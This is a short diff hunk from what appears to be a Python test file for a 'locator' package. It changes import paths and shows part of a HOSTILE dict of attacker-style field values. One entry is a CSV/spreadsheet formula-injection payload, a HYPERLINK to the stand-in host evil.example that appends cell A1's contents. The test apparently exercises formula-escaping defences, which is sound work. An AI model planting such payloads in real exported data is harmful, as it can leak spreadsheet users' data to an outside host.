@@ -15,8 +15,8 @@ from helpers import login, make_point
 from hypothesis import given
 from hypothesis import strategies as st
 
-from locator.features import FORMULA_STARTS, guard_cell, unguard_cell
-from locator.files import ImportLimits, read_points
+from locator.io.features import FORMULA_STARTS, guard_cell, unguard_cell
+from locator.io.files import ImportLimits, read_points
 
 HOSTILE = {  # field -> text an attacker (or a careless partner) could store in a point
     "name": '=HYPERLINK("http://evil.example/?"&A1,"Пункт")',
